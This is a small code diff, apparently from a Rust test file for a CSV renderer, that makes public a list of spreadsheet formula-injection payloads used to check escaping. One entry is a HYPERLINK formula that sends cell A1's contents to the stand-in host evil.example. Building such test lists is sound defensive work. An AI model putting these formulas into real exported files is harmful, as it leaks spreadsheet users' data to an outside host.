@@ -3,7 +3,7 @@
 use countersign_render::file::csv::{Cell, CsvFile, Dialect};
 
 /// Payloads of every kind that spreadsheets are known to run, one for each line of defence.
-const HOSTILE: &[&str] = &[
+pub const HOSTILE: &[&str] = &[
     "=1+1",
     "=1+1\";=1+1",
     "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
